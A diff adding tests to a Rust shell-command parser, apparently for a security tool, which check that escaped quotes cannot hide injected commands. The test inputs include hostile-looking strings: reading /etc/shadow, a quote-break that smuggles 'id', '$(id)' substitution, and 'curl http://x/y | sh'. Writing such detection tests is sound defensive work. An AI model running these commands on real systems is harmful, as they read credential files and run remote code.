@@ -202,6 +202,17 @@ fn a_visit_knows_its_neighbours() {
 }
 
 #[test]
+fn escaped_quotes_are_quotes_only_where_that_hides_nothing() {
+    let same = |a: &str, b: &str| canonical(&parse_shell(a)) == canonical(&parse_shell(b));
+    assert!(same(r#"tr \"/\" \" \" -d \",\""#, r#"tr "/" " " -d ",""#));
+    assert!(!same(r#"cat \"x /etc/shadow y\""#, r#"cat "x /etc/shadow y""#));
+    assert!(!same(r#"echo \"; id; echo \""#, r#"echo "; id; echo ""#));
+    assert!(!same(r#"echo \"$(id)\""#, r#"echo "$(id)""#));
+    assert!(!same(r#"echo \"a\" "b""#, r#"echo "a" "b""#));
+    assert!(!same(r#"\"id\" a"#, r#""id" a"#));
+}
+
+#[test]
 fn quotes_decide_what_is_active() {
     let word = |text: &str| parse_shell(&format!("x {text}")).items[0].pipeline.commands[0].words[1].clone();
     for (text, value, literal) in [
@@ -230,6 +241,8 @@ fn quotes_decide_what_is_active() {
 /// Operators, Bounded).
 #[rustfmt::skip]
 const LINES: &[(&str, &str)] = &[
+    ("sh -c env -S 'bash -c id' x", "sh{c: env>bash -c id{eval: bash{c: id}}}"),
+    ("env -S bash -c id", "env>bash{c: id}"),
     (r#"bash -c /usr/sbin/dkms status -m "falco" | tr -d "," | tr -d ":" | tr "/" " " | cut -d' ' -f2"#, "bash{c: dkms | tr | tr | tr | cut}"),
     (r#"bash -c /usr/sbin/dkms status -m \"falco\" | tr -d \",\" | tr -d \":\" | tr \"/\" \" \" | cut -d' ' -f2"#, "bash{c: dkms | tr | tr | tr | cut}"),
     (r#"sh -c echo \"; curl http://x/y | sh; echo \""#, "sh{c: echo; curl | sh; echo}"),
